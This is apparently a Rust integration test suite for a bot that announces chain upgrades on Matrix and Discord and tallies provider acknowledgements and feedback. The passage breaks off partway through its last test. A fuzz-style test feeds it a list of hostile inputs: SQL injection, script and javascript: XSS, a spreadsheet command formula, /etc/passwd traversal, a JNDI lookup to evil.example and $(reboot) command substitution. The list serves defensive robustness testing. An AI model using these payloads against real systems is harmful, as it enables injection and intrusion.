//! People answer: providers by reaction and by command, everybody with feedback, and some with malice. On real parts, with
//! independent people.

use std::{
    collections::BTreeMap,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use futures::{StreamExt, TryStreamExt};
use serde_json::{Value, json};
use upgrade_herald::{
    adapters::store::SqlStore,
    domain::people::roster::{Answer, Claim},
    ports::{OutboxStore, RecordKind, RecordStore},
};

use crate::{
    doubles::discord::Options,
    harness::world::{PATIENCE, World, later, now},
    support::{DevnetOptions, Person, Synapse, devnet::blob, wait},
};

const PROVIDERS: usize = 27;
/// These are on Matrix, the others on Discord.
const ON_MATRIX: usize = 13;

/// When the plan below reminds of an answer: all who answer in time have done so by then.
const UNANSWERED: Duration = Duration::from_secs(90);

/// Minutes instead of three days.
const ROLL: &str = "
zone: Europe/Berlin
feedback: { open_for: 40s, reactions: [{ emoji: 👍, means: all fine }] }
plans:
  expedited:
    acknowledge_within: 210s
    remind: { unacknowledged: [90s] }
notices:
  - { id: announced, phase: preparation, template: preparation/announced, on: window_set, acknowledge: true }
  - { id: unacknowledged, phase: preparation, template: scheduling/unacknowledged, on: unacknowledged }
  - { id: op-roll, phase: preparation, template: operations/roll, on: roll_called, to: operators }
";

fn provider(number: usize) -> String {
    format!("provider-{number:02}")
}

async fn store(w: &World) -> Result<SqlStore> {
    Ok(SqlStore::open(&format!(
        "sqlite://{}",
        w.dir.path().join("herald.db").display()
    ))
    .await?)
}

async fn said_to_operators(w: &World, channel: u64, words: &str) -> Result<String> {
    wait::until(
        &format!("“{words}” for operators"),
        Duration::from_secs(300),
        async || {
            w.discord
                .messages(channel)
                .into_iter()
                .find(|m| m.content.contains(words))
                .map(|m| m.content)
        },
    )
    .await
}

/// What herald answers to a line of somebody's in the room.
async fn asked_on_matrix(w: &World, who: &Person, room: &str, line: &str) -> Result<String> {
    let asked = who.say(room, line).await?;
    let what = format!("an answer to {line:.40}");
    let answer = wait::until(&what, PATIENCE, async || {
        let all = who.messages(room).await.ok()?;
        all.into_iter().find(|e| {
            e["sender"] == w.user_id.as_str()
                && e["content"]["m.relates_to"]["m.in_reply_to"]["event_id"] == asked.as_str()
        })
    });
    Ok(answer.await?["content"]["body"]
        .as_str()
        .context("words")?
        .to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn twenty_seven_providers_answer_and_who_does_not_is_named() -> Result<()> {
    let mut w = World::new(
        Options::default(),
        DevnetOptions {
            block_ms: 1_000,
            ..Default::default()
        },
    )
    .await?;
    let (operators, _) = w.operators().await?;
    let synapse = Synapse::shared().await?;
    let tag = w
        .user_id
        .trim_start_matches("@herald-")
        .trim_end_matches(":localhost")
        .to_owned();
    let matrix: Vec<Person> = futures::stream::iter(0..ON_MATRIX)
        .map(async |i| synapse.person(&format!("p{i:02}-{tag}")).await)
        .buffered(4)
        .try_collect()
        .await?;
    for person in &matrix {
        w.alice.invite(&w.room, &person.user_id).await?;
        person.join(&w.room).await?;
    }
    let discord: Vec<u64> = (ON_MATRIX..PROVIDERS)
        .map(|i| w.discord.add_person(&provider(i)))
        .collect();

    // Provider files as networks publish them; who is on Discord is in people.yaml.
    let folder = w.dir.path().join("config/roster/paseo-validators/active");
    std::fs::create_dir_all(&folder)?;
    for i in 0..PROVIDERS {
        let riot = matrix.get(i).map_or("na".to_owned(), |p| p.user_id.clone());
        let text = format!(
            "identity:\n  display: \"Provider {i:02}\"\n  email: na\n  riot: \"{riot}\"\naccounts:\n  - {{ identity: {{ display: \"P{i:02}/1\" }}, stash: x }}\n  - {{ identity: {{ display: \"P{i:02}/2\" }}, stash: y }}\n"
        );
        std::fs::write(folder.join(format!("{}.yml", provider(i))), text)?;
    }
    let person = |(i, id): (usize, &u64)| {
        format!(
            "  - {{ name: \"Person {0:02}\", discord: \"{id}\", roles: [validator], provider: {1} }}\n",
            ON_MATRIX + i,
            provider(ON_MATRIX + i)
        )
    };
    let mut people: String = discord.iter().enumerate().map(person).collect();
    people.push_str(&format!(
        "  - {{ name: Alice, matrix: \"{}\", roles: [communication_team] }}\n",
        w.alice.user_id
    ));
    w.write("people.yaml", &format!("people:\n{people}"))?;
    w.write("plan.yaml", ROLL)?;
    w.write(
        "upgrades/v2.yaml",
        &crate::stories::story::upgrade(later(now(), 9_000)),
    )?;
    w.start().await?;

    let post = w.on_discord("please react with").await?;
    let event = w.on_matrix("please react with").await?["event_id"]
        .as_str()
        .context("an id")?
        .to_owned();
    // 10 react and 2 give the command on Matrix; 9 and 2 on Discord. People who belong to no provider do so too.
    for person in &matrix[..10] {
        person.react(&w.room, &event, "✅").await?;
    }
    w.bob.react(&w.room, &event, "✅").await?;
    matrix[0].react(&w.room, &event, "👍").await?;
    for id in &discord[..9] {
        w.discord.react(w.channel, post.id, *id, "✅").await;
    }
    let stranger = w.discord.add_person("a stranger");
    w.discord.react(w.channel, post.id, stranger, "✅").await;
    for person in &matrix[10..12] {
        let thanks = asked_on_matrix(&w, person, &w.room, "!upgrade ack").await?;
        ensure!(
            thanks.contains("Thank you, Provider 1") && thanks.contains("has answered announced"),
            "{thanks}"
        );
    }
    let slash = async |who: u64, verb: &str, options: &[(&str, Value)]| -> Result<String> {
        let answer = w
            .discord
            .slash_with(who, w.channel, "upgrade", verb, options)
            .await
            .map_err(|e| anyhow::anyhow!("{e:?}"))?;
        Ok(answer.content)
    };
    ensure!(
        slash(discord[9], "ack", &[])
            .await?
            .contains("Thank you, Person 2"),
        "thanks"
    );
    let pressed = w
        .discord
        .press(discord[10], w.channel, &post, "We have seen this")
        .await
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    ensure!(
        pressed.ephemeral && pressed.content.contains("Thank you, Person 2"),
        "by a press: {}",
        pressed.content
    );
    ensure!(
        slash(stranger, "ack", &[])
            .await?
            .contains("I don't know for which provider you answer"),
        "a stranger counts for nobody"
    );

    // Reactions are counted again and again; the status says how many.
    let status = wait::until("23 of 27 in the status", PATIENCE, async || {
        let said = slash(stranger, "status", &[]).await.ok()?;
        said.contains("23 of 27 have answered").then_some(said)
    });
    status.await?;

    // Four are missing: three on Discord, and one on Matrix. They are named everywhere, and called where they are.
    let missing = ["Provider 12", "Provider 24", "Provider 25", "Provider 26"];
    let reminder = wait::until(
        "the reminder on Discord",
        UNANSWERED + PATIENCE,
        async || {
            w.discord
                .messages(w.channel)
                .into_iter()
                .find(|m| m.content.contains("please answer"))
        },
    )
    .await?;
    let others = (0..PROVIDERS)
        .map(|i| format!("Provider {i:02}"))
        .filter(|name| !missing.contains(&name.as_str()));
    ensure!(
        missing.iter().all(|name| reminder.content.contains(name)),
        "{}",
        reminder.content
    );
    ensure!(
        !others
            .into_iter()
            .any(|name| reminder.content.contains(&name)),
        "{}",
        reminder.content
    );
    let mut called = reminder.mentions.clone();
    called.sort_unstable();
    let mut wanted = discord[11..].to_vec();
    wanted.sort_unstable();
    ensure!(
        called == wanted && !reminder.mention_everyone,
        "{called:?} for {wanted:?}"
    );
    let said = w.on_matrix("please answer").await?;
    ensure!(
        said["content"]["m.mentions"] == json!({ "user_ids": [matrix[12].user_id] }),
        "{said}"
    );

    // herald is away: one answers meanwhile, one takes a reaction back, and one leaves the network.
    w.herald.sigterm();
    w.herald.wait(PATIENCE).await?;
    matrix[12].react(&w.room, &event, "✅").await?;
    w.discord
        .unreact(w.channel, post.id, discord[0], "✅")
        .await;
    std::fs::remove_file(folder.join(format!("{}.yml", provider(26))))?;
    let config = std::fs::read_to_string(w.dir.path().join("config/people.yaml"))?;
    let stayed: String = config
        .lines()
        .filter(|line| !line.contains("provider-26"))
        .map(|line| format!("{line}\n"))
        .collect();
    w.write("people.yaml", &stayed)?;
    w.start().await?;
    let told = said_to_operators(&w, operators, "providers have answered").await?;
    ensure!(
        told.contains(
            "24 of 26 providers have answered announced in time. Missing: Provider 24, Provider 25."
        ),
        "{told}"
    );

    // Late is late, and stands in the record; nodes are ready one by one.
    let late = w
        .discord
        .slash_with(discord[11], w.channel, "upgrade", "ack", &[])
        .await
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    ensure!(
        late.content
            .contains("has answered announced, after its time. 25 of 26 have."),
        "{}",
        late.content
    );
    let slash = async |who: u64, verb: &str, options: &[(&str, Value)]| -> Result<String> {
        let answer = w
            .discord
            .slash_with(who, w.channel, "upgrade", verb, options)
            .await
            .map_err(|e| anyhow::anyhow!("{e:?}"))?;
        Ok(answer.content)
    };
    let one = slash(discord[0], "ready", &[("node", "P13/1".into())]).await?;
    ensure!(
        one.contains("1 of 2 nodes of Provider 13 are ready"),
        "{one}"
    );
    ensure!(
        slash(discord[0], "ready", &[("node", "P14/1".into())])
            .await?
            .contains("has no node P14/1"),
        "another's node"
    );
    let both = slash(discord[0], "ready", &[("node", "p13/2".into())]).await?;
    ensure!(both.contains("Provider 13 is ready. 1 of 26 are"), "{both}");
    ensure!(
        asked_on_matrix(&w, &matrix[3], &w.room, "!upgrade ready")
            .await?
            .contains("Provider 03 is ready. 2 of 26 are"),
        "all nodes"
    );
    let pressed = w
        .discord
        .press(discord[1], w.channel, &post, "All our nodes are ready")
        .await
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    ensure!(
        pressed
            .content
            .contains("Provider 14 is ready. 3 of 26 are"),
        "{}",
        pressed.content
    );

    // The record: who, when, how and on which notice; nobody twice.
    let answers: Vec<Answer> = store(&w)
        .await?
        .entries(RecordKind::Answer, "v2")
        .await?
        .into_iter()
        .map(|e| serde_json::from_value(e.value))
        .collect::<Result<_, _>>()?;
    let seen: Vec<&Answer> = answers
        .iter()
        .filter(|a| a.claim == Claim::Acknowledged)
        .collect();
    let mut how: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    for answer in &seen {
        *how.entry((
            answer.account.split(' ').next().unwrap_or_default(),
            &answer.how,
        ))
        .or_default() += 1;
    }
    let counts = [
        (("discord", "command"), 3),
        (("discord", "reaction"), 9),
        (("matrix", "command"), 2),
        (("matrix", "reaction"), 11),
    ];
    ensure!(how == counts.into(), "{how:?}");
    ensure!(
        seen.iter().all(|a| a.notice == "announced"
            && a.link.as_ref().is_some_and(|l| l.starts_with("https://"))),
        "{seen:?}"
    );
    let mut cli = crate::support::Herald::new(env!("CARGO_BIN_EXE_herald").into(), w.dir.path())
        .args(["roster", "v2", "--csv"])
        .env("TEST_DISCORD_TOKEN", w.discord.token())
        .env("TEST_MATRIX_PASSWORD", crate::harness::world::PASSWORD);
    ensure!(cli.run(PATIENCE).await? == 0, "{}", cli.stderr());
    let csv = cli.stdout();
    ensure!(csv.lines().count() == 1 + answers.len(), "{csv}");
    ensure!(
        csv.lines().filter(|l| l.ends_with(",yes")).count() == 1,
        "one was late: {csv}"
    );
    println!(
        "{}",
        json!({ "providers": PROVIDERS, "answers": answers.len(), "reminded": missing.len(), "left": 1, "late": 1 })
    );
    ensure!(
        w.discord.violations().is_empty(),
        "{:?}",
        w.discord.violations()
    );
    Ok(())
}

const FEEDBACK: &str = "
zone: Europe/Berlin
verification: { healthy_for: 30s, complete_after: 30s, max_block_gap: 60s }
feedback:
  open_for: 10m
  raise_at: 3
  reactions:
    - { emoji: 👍, means: all fine }
    - { emoji: ⚠️, means: a problem, problem: true }
notices:
  - { id: applied, phase: validation, template: validation/applied, on: applied, feedback: true }
  - { id: feedback, phase: post-deployment, template: post-deployment/feedback-summary, on: feedback_closed }
  - { id: op-problem, phase: post-deployment, template: operations/problem, on: problem_raised, to: operators }
  - { id: op-review, phase: post-deployment, template: operations/review-draft, on: review_drafted, to: operators }
";

#[tokio::test(flavor = "multi_thread")]
async fn feedback_is_what_people_leave_standing_whatever_herald_saw_of_it() -> Result<()> {
    let mut w = World::new(
        Options::default(),
        DevnetOptions {
            block_ms: 500,
            ..Default::default()
        },
    )
    .await?;
    let (operators, ops_room) = w.operators().await?;
    let people = format!(
        "people:\n  - {{ name: Alice, matrix: \"{}\", roles: [communication_team], audience: developers }}\n  - {{ name: Bob, matrix: \"{}\", discord: \"{}\", roles: [validator] }}\n",
        w.alice.user_id,
        w.bob.user_id,
        w.discord.add_person("bob on Discord"),
    );
    w.write("people.yaml", &people)?;
    w.write("plan.yaml", FEEDBACK)?;
    w.write(
        "upgrades/v2.yaml",
        &crate::stories::story::upgrade(later(now(), 3_600)),
    )?;
    w.start().await?;
    let bob_on_discord: u64 = people
        .split("discord: \"")
        .nth(1)
        .and_then(|t| t.split('"').next())
        .context("an id")?
        .parse()?;
    let (carol, dave) = (w.discord.add_person("carol"), w.discord.add_person("dave"));
    ensure!(
        asked_on_matrix(&w, &w.bob, &w.room, "!upgrade feedback All fine")
            .await?
            .contains("once the upgrade is applied"),
        "too early"
    );
    w.chain.set_code(&blob("mini-1000002")).await?;
    let post = w.on_discord("applied, being verified").await?;
    let event = w.on_matrix("applied, being verified").await?["event_id"]
        .as_str()
        .context("an id")?
        .to_owned();
    w.on_matrix("tell us here what you see").await?;
    let thread = wait::until("a thread on Discord", PATIENCE, async || {
        w.discord.thread_of(post.id)
    })
    .await?;

    // bob says the same on both platforms, and is one; alice changes her mind; carol and dave have a problem.
    w.bob.react(&w.room, &event, "⚠️").await?;
    w.discord
        .react(w.channel, post.id, bob_on_discord, "⚠️")
        .await;
    let fine = w.alice.react(&w.room, &event, "👍").await?;
    w.discord.react(w.channel, post.id, carol, "⚠️").await;
    let reply = w
        .bob
        .reply_in_thread(&w.room, &event, "The sync takes long.")
        .await?;
    let gone = w
        .alice
        .reply_in_thread(&w.room, &event, "Never mind.")
        .await?;
    let said = w
        .discord
        .say(thread, carol, "My node lost its peers.")
        .await;
    let taken_back = w.discord.say(thread, dave, "Wrong channel.").await;

    // herald is away while people go on.
    w.herald.sigterm();
    w.herald.wait(PATIENCE).await?;
    w.alice.redact(&w.room, &fine).await?;
    w.alice.redact(&w.room, &gone).await?;
    w.alice.react(&w.room, &event, "⚠️").await?;
    w.discord.delete_said(taken_back).await;
    w.discord
        .edit_said(said, "My node found its peers again.")
        .await;
    let edit = json!({ "msgtype": "m.text", "body": "* The sync took *ten* minutes.", "m.new_content": { "msgtype": "m.text", "body": "The sync took *ten* minutes. @room" },
        "m.relates_to": { "rel_type": "m.replace", "event_id": reply } });
    w.bob.send(&w.room, "m.room.message", edit).await?;
    w.start().await?;

    // Three people with one problem: operators hear of it while it is fresh.
    let raised = said_to_operators(&w, operators, "several people have a problem").await?;
    ensure!(raised.contains("3 people say ⚠️ a problem"), "{raised}");

    // By a command as well; what is told again takes the place of the words before, and can be taken back.
    let slash = async |who: u64, verb: &str, options: &[(&str, Value)]| -> Result<String> {
        let answer = w
            .discord
            .slash_with(who, w.channel, "upgrade", verb, options)
            .await
            .map_err(|e| anyhow::anyhow!("{e:?}"))?;
        Ok(answer.content)
    };
    ensure!(
        slash(
            dave,
            "feedback",
            &[("text", "I will take this back.".into())]
        )
        .await?
        .contains("Thank you"),
        "thanks"
    );
    ensure!(
        slash(dave, "withdraw", &[]).await?.contains("taken back"),
        "gone"
    );
    slash(carol, "feedback", &[("text", "At first.".into())]).await?;
    slash(
        carol,
        "feedback",
        &[(
            "text",
            "Explorers <@1> **lag** by [a bit](https://evil.example).".into(),
        )],
    )
    .await?;

    let closed = asked_on_matrix(&w, &w.alice, &ops_room, "!upgrade close").await?;
    ensure!(closed.contains("feedback is closed"), "{closed}");
    let summary = w.on_discord("what you told us").await?;
    let text = &summary.content;
    for line in [
        "👍 all fine: **0**",
        "⚠️ a problem: **3**",
        "Replies: **3**",
        "Validators: 👍 0, ⚠️ 1, 1 replies",
        "Developers: 👍 0, ⚠️ 1, 0 replies",
        "Not listed: 👍 0, ⚠️ 1, 2 replies",
    ] {
        ensure!(text.contains(line), "no “{line}” in: {text}");
    }
    ensure!(
        text.contains("The sync took \\*ten\\* minutes.")
            && !text.contains("Never mind")
            && !text.contains("Wrong channel")
            && !text.contains("take this back")
            && !text.contains("At first"),
        "{text}"
    );
    ensure!(
        !text.contains("evil.example") && summary.mentions.is_empty() && !summary.mention_everyone,
        "{text}"
    );
    let on_matrix = w.on_matrix("what you told us").await?;
    ensure!(
        on_matrix["content"]["m.mentions"].get("room").is_none(),
        "{on_matrix}"
    );
    let html = on_matrix["content"]["formatted_body"]
        .as_str()
        .context("html")?;
    ensure!(!html.contains("href=\"https://evil.example"), "{html}");
    let draft = said_to_operators(&w, operators, "a draft for the review").await?;
    ensure!(
        draft.contains("⚠️ 3") && draft.contains("herald report v2"),
        "{draft}"
    );
    ensure!(
        w.discord.violations().is_empty(),
        "{:?}",
        w.discord.violations()
    );
    println!(
        "{}",
        json!({ "people": 4, "problems": 3, "replies": 3, "withdrawn": 4, "edited": 2 })
    );
    Ok(())
}

/// Words that somebody means ill with, or that a broken client sends.
fn hostile_words() -> Vec<String> {
    let mentions: String = (0..400)
        .map(|i| format!("<@{i}> @user{i}:example.org "))
        .collect();
    let mut words: Vec<String> = [
        "@everyone @here @room <@&1> <@1>",
        "[a prize](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>",
        "\u{202e}desrever\u{202c} \u{2066}isolated\u{2069} zero\u{200b}width\u{feff}",
        "\u{1}\u{2}\u{7f}\u{85}\r\n\t\u{b}",
        "'; DROP TABLE posts; --",
        "{{upgrade.title}} {{{secret}}} {{#each this}}{{/each}}",
        "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;&#x0;",
        "```\n# heading\n> quote\n|| spoiler || ~~gone~~ **bold**",
        "👩‍👩‍👧‍👦👍🏿⚠️1️⃣🇩🇪",
        "\"an open “quotation",
        "=cmd|'/c calc'!A1",
        "../../../etc/passwd %00 \\\\server\\share",
        "",
        " ",
        "%s%n%x ${jndi:ldap://evil.example/x} $(reboot) `reboot`",
        "Ṫ̈́h̸e̷ ̶z̵a̸l̴g̶o̴",
        "\u{202e}\u{202d}\u{2066}\u{2067}",
        "-1 99999999999999999999 NaN 1e309 0x",
        "2099-13-45 25:61 +999999999d",
        "| a | b |\n|---|---|\n| c | d |",
        "<mx-reply>x</mx-reply> <a href=\"javascript:alert(1)\">y</a>",
        "upgrade=v2 upgrade=v2 code= topic=\"\"",
    ]
    .map(str::to_owned)
    .into();
    words.extend([
        mentions,
        "x".repeat(20_000),
        "é".repeat(9_000),
        "\n".repeat(5_000),
        "a ".repeat(10_000),
        "`".repeat(3_000),
    ]);
    words
}

#[tokio::test(flavor = "multi_thread")]
async fn five_hundred_hostile_events_hurt_nobody() -> Result<()> {
    let mut w = World::new(
        Options::default(),
        DevnetOptions {
            block_ms: 500,
            ..Default::default()
        },
    )
    .await?;
    let (_, ops_room) = w.operators().await?;
    w.write(
        "people.yaml",
        &format!(
            "people:\n  - {{ name: Alice, matrix: \"{}\", roles: [communication_team] }}\n",
            w.alice.user_id
        ),
    )?;
    w.write("plan.yaml", FEEDBACK)?;
    w.write(
        "upgrades/v2.yaml",
        &crate::stories::story::upgrade(later(now(), 3_600)),
    )?;
    w.start().await?;
    w.chain.set_code(&blob("mini-1000002")).await?;
    let post = w.on_discord("applied, being verified").await?;
    let event = w.on_matrix("applied, being verified").await?["event_id"]
        .as_str()
        .context("an id")?
        .to_owned();
    w.on_matrix("tell us here what you see").await?;
    let thread = wait::until("a thread on Discord", PATIENCE, async || {
        w.discord.thread_of(post.id)
    })
    .await?;
    let mallory = w.discord.add_person("mallory @everyone");
    // Who asks a lot is not listened to: that is another test.
    let stranger = |i: usize| w.discord.add_person(&format!("stranger {i}"));
    let deleted = w.alice.say(&w.room, "This will be deleted.").await?;
    w.alice.redact(&w.room, &deleted).await?;

    let (mut sent, mut refused, mut replies, mut others) =
        (0, 0, 0_u32, std::collections::BTreeSet::new());
    let text = |body: &str| json!({ "msgtype": "m.text", "body": body });
    let with = |mut content: Value, key: &str, value: Value| {
        content[key] = value;
        content
    };
    let thread_of = |root: &str| json!({ "rel_type": "m.thread", "event_id": root });
    for (i, words) in hostile_words().iter().enumerate() {
        let html = with(
            with(text(words), "format", "org.matrix.custom.html".into()),
            "formatted_body",
            words.as_str().into(),
        );
        // What is counted is told apart: a readable message in the thread is somebody's words, however bad.
        let shapes: Vec<(&str, Value, bool)> = vec![
            ("m.room.message", text(words), false),
            ("m.room.message", text(&format!("!upgrade {words}")), false),
            (
                "m.room.message",
                text(&format!("!upgrade help {words}")),
                false,
            ),
            (
                "m.room.message",
                text(&format!("!upgrade feedback {words}")),
                false,
            ),
            (
                "m.room.message",
                text(&format!("!upgrade no-go {words}")),
                false,
            ),
            (
                "m.room.message",
                with(
                    html.clone(),
                    "m.mentions",
                    json!({ "room": true, "user_ids": [w.user_id, 7, null] }),
                ),
                false,
            ),
            (
                "m.room.message",
                with(text(words), "m.relates_to", thread_of(&event)),
                true,
            ),
            (
                "m.room.message",
                with(json!({ "body": words }), "m.relates_to", thread_of(&event)),
                false,
            ),
            (
                "m.room.message",
                with(
                    text(words),
                    "m.relates_to",
                    thread_of("$nothing-of-the-kind"),
                ),
                false,
            ),
            (
                "m.room.message",
                with(
                    text(words),
                    "m.relates_to",
                    json!({ "m.in_reply_to": { "event_id": deleted } }),
                ),
                false,
            ),
            (
                "m.room.message",
                with(
                    with(text("* changed"), "m.new_content", text(words)),
                    "m.relates_to",
                    json!({ "rel_type": "m.replace", "event_id": event }),
                ),
                false,
            ),
            (
                "m.room.message",
                with(text(words), "m.relates_to", json!(["not", "an", "object"])),
                false,
            ),
            (
                "m.room.message",
                json!({ "msgtype": 7, "body": { "deep": [words] }, "unknown": { "fields": [1, 2.5, null] } }),
                false,
            ),
            (
                "m.room.message",
                with(text(words), "org.upgrade-herald.key", "0".repeat(24).into()),
                false,
            ),
            (
                "m.reaction",
                json!({ "m.relates_to": { "rel_type": "m.annotation", "event_id": event, "key": words } }),
                false,
            ),
            (
                "m.reaction",
                json!({ "m.relates_to": { "rel_type": "m.annotation", "event_id": event } }),
                false,
            ),
            (
                "m.room.encrypted",
                json!({ "algorithm": words, "ciphertext": 7 }),
                false,
            ),
            (
                "org.example.unknown",
                json!({ "body": words, "msgtype": "m.text" }),
                false,
            ),
        ];
        for (kind, content, counts) in shapes {
            match w.bob.send(&w.room, kind, content).await {
                Ok(_) => {
                    sent += 1;
                    replies += u32::from(counts);
                    if kind == "m.reaction" && (1..=64).contains(&words.trim().chars().count()) {
                        others.insert(i);
                    }
                }
                // The server wouldn't have it: then herald never sees it.
                Err(_) => refused += 1,
            }
        }
        // The same on Discord, as far as Discord lets people.
        let short: String = words.chars().take(1_500).collect();
        let stranger = stranger(i);
        for (verb, option) in [
            ("help", "topic"),
            ("status", "upgrade"),
            ("feedback", "text"),
            ("approve", "code"),
            ("ready", "node"),
            ("note", "text"),
        ] {
            let fits: String = short
                .chars()
                .take(if verb == "feedback" { 500 } else { 150 })
                .collect();
            if fits.is_empty() {
                continue;
            }
            let answer = w
                .discord
                .slash_with(
                    stranger,
                    w.channel,
                    "upgrade",
                    verb,
                    &[(option, fits.as_str().into())],
                )
                .await;
            ensure!(answer.is_ok(), "{verb} with {short:.40}: {answer:?}");
            sent += 1;
            replies += u32::from(
                verb == "feedback" && answer.is_ok_and(|a| a.content.contains("Thank you")),
            );
        }
        if !short.trim().is_empty() {
            w.discord.say(thread, mallory, &short).await;
            (sent, replies) = (sent + 1, replies + 1);
        }
    }
    // One who means well, among all of it; her reaction stands, his words were taken back at the end.
    w.alice.react(&w.room, &event, "👍").await?;
    w.discord.react(w.channel, post.id, mallory, "👍").await;
    ensure!(sent >= 500, "{sent} were taken, {refused} were not");

    // It is alive, says what it should, and has called nobody.
    let status = asked_on_matrix(&w, &w.alice, &w.room, "!upgrade status").await?;
    ensure!(status.contains("Devnet runtime 2"), "{status}");
    w.herald.signal("HUP");
    // By then he is listened to again.
    tokio::time::sleep(Duration::from_secs(13)).await;
    asked_on_matrix(&w, &w.bob, &w.room, "!upgrade withdraw").await?;
    asked_on_matrix(&w, &w.alice, &ops_room, "!upgrade close").await?;
    let summary = w.on_discord("what you told us").await?;
    ensure!(
        summary.content.contains("👍 all fine: **2**"),
        "{}",
        summary.content
    );
    ensure!(
        summary.content.contains(&format!("Replies: **{replies}**")),
        "{replies} in {}",
        summary.content
    );
    let others = others.len();
    ensure!(
        others == 0 || summary.content.contains(&format!("other: **{others}**")),
        "{others} in {}",
        summary.content
    );
    let stderr = w.herald.stderr();
    ensure!(
        w.herald.is_running() && !stderr.contains("panicked") && !stderr.contains("broke off"),
        "{stderr}"
    );
    let people = [&w.alice.user_id, &w.bob.user_id];
    for said in w.said_on_matrix().await? {
        let mentions = &said["content"]["m.mentions"];
        ensure!(mentions.get("room").is_none(), "{said}");
        let called = mentions["user_ids"].as_array().cloned().unwrap_or_default();
        // An answer calls who asked, and nobody else.
        ensure!(
            called.len() <= 1
                && called
                    .iter()
                    .all(|id| people.iter().any(|p| id == p.as_str())),
            "{said}"
        );
    }
    for message in w
        .discord
        .messages(w.channel)
        .iter()
        .chain(&w.discord.messages(thread))
        .filter(|m| m.author_id == w.discord.bot_user_id())
    {
        ensure!(
            message.mentions.is_empty() && !message.mention_everyone,
            "{}",
            message.content
        );
    }
    ensure!(
        w.discord.violations().is_empty(),
        "{:?}",
        w.discord.violations()
    );
    println!(
        "{}",
        json!({ "events": sent, "refused_by_the_server": refused, "panics": 0, "pings": 0, "replies": replies })
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn who_asks_a_thousand_times_is_answered_a_few_times_and_others_always() -> Result<()> {
    let mut w = World::new(
        Options::default(),
        DevnetOptions {
            block_ms: 1_000,
            ..Default::default()
        },
    )
    .await?;
    w.write("plan.yaml", FEEDBACK)?;
    w.write(
        "upgrades/v2.yaml",
        &crate::stories::story::upgrade(later(now(), 900)),
    )?;
    w.start().await?;
    let mallory = w.discord.add_person("mallory");
    let others: Vec<u64> = (0..20)
        .map(|i| w.discord.add_person(&format!("person {i}")))
        .collect();
    let ask = async |who: u64| {
        w.discord
            .slash(who, w.channel, "upgrade", "status")
            .await
            .map(|a| a.content)
            .map_err(|e| anyhow::anyhow!("{e:?}"))
    };
    let began = Instant::now();
    let flood: Vec<u64> = (0..1_000)
        .map(|_| {
            w.discord
                .slash_away(mallory, w.channel, "upgrade", "status")
        })
        .collect::<Result<_, _>>()
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    let asked = futures::future::join_all(others.iter().map(|who| ask(*who)));
    let on_matrix = async {
        let flood = futures::stream::iter(0..200)
            .map(|_| w.bob.say(&w.room, "!upgrade status"))
            .buffer_unordered(20)
            .collect::<Vec<_>>();
        let (_, answer) = tokio::join!(
            flood,
            asked_on_matrix(&w, &w.alice, &w.room, "!upgrade status")
        );
        answer
    };
    let (asked, on_matrix) = tokio::join!(asked, on_matrix);
    for answer in asked {
        ensure!(answer?.contains("Devnet runtime 2"), "others are answered");
    }
    // Six, and one that says why there are no more; and each two seconds the same once more, however slow this goes.
    let answered = flood.iter().filter(|id| w.discord.heeded(**id)).count();
    let most = 8 + usize::try_from(began.elapsed().as_secs())?;
    ensure!(
        (1..=most).contains(&answered),
        "{answered} answers for one person"
    );
    ensure!(on_matrix?.contains("Devnet runtime 2"), "on Matrix too");
    let to_bob = w
        .said_on_matrix()
        .await?
        .into_iter()
        .filter(|e| e["content"]["m.mentions"]["user_ids"][0] == w.bob.user_id.as_str())
        .count();
    let most = 8 + usize::try_from(began.elapsed().as_secs())?;
    ensure!(
        (1..=most).contains(&to_bob),
        "{to_bob} answers for one person on Matrix"
    );
    println!(
        "{}",
        json!({ "asked": 1_200, "answered_to_one": answered + to_bob, "others": 21 })
    );
    Ok(())
}

const CALM: &str = "zone: UTC\nfeedback: { open_for: 1h, reactions: [] }\nnotices:\n\
    \x20 - { id: announced, phase: preparation, template: preparation/announced, on: planned }\n";

#[tokio::test(flavor = "multi_thread")]
async fn who_asks_for_it_is_reminded_alone_once_and_of_the_window_as_it_is() -> Result<()> {
    let mut w = World::new(
        Options::default(),
        DevnetOptions {
            block_ms: 1_000,
            ..Default::default()
        },
    )
    .await?;
    let (operators, _) = w.operators().await?;
    let (carol, dave, dana) = (
        w.discord.add_person("carol"),
        w.discord.add_person("dave"),
        w.discord.add_person("dana"),
    );
    w.write(
        "people.yaml",
        &format!("people:\n  - {{ name: Dana, discord: \"{dana}\", roles: [operator] }}\n"),
    )?;
    w.write("plan.yaml", CALM)?;
    let opens = later(now(), 3_600);
    w.write("upgrades/v2.yaml", &crate::stories::story::upgrade(opens))?;
    w.start().await?;
    w.on_discord("is coming").await?;
    let slash =
        async |who: u64, channel: u64, verb: &str, options: &[(&str, Value)]| -> Result<String> {
            let answer = w
                .discord
                .slash_with(who, channel, "upgrade", verb, options)
                .await
                .map_err(|e| anyhow::anyhow!("{e:?}"))?;
            Ok(answer.content)
        };
    ensure!(
        slash(carol, w.channel, "subscribe", &[("before", "2h".into())])
            .await?
            .contains("too soon"),
        "it would be over"
    );
    ensure!(
        slash(carol, w.channel, "subscribe", &[("before", "soon".into())])
            .await?
            .contains("Write how long before"),
        "no length"
    );
    for who in [carol, dave] {
        ensure!(
            slash(who, w.channel, "subscribe", &[("before", "30m".into())])
                .await?
                .contains("I will write to you alone"),
            "told"
        );
    }
    ensure!(
        asked_on_matrix(&w, &w.bob, &w.room, "!upgrade subscribe 30m")
            .await?
            .contains("I will write to you alone"),
        "told"
    );
    ensure!(
        slash(dave, w.channel, "subscribe", &[("before", "off".into())])
            .await?
            .contains("I will not remind you"),
        "told"
    );
    ensure!(
        !slash(dave, w.channel, "status", &[])
            .await?
            .contains("private"),
        "nobody else's business"
    );

    // The window moves nearer: half an hour before it is in half a minute.
    let nearer = later(now(), 1_830);
    let moved = slash(
        dana,
        operators,
        "reschedule",
        &[
            ("opens", nearer.to_string().into()),
            ("confirm", "yes".into()),
        ],
    )
    .await?;
    ensure!(moved.contains(" now opens "), "{moved}");
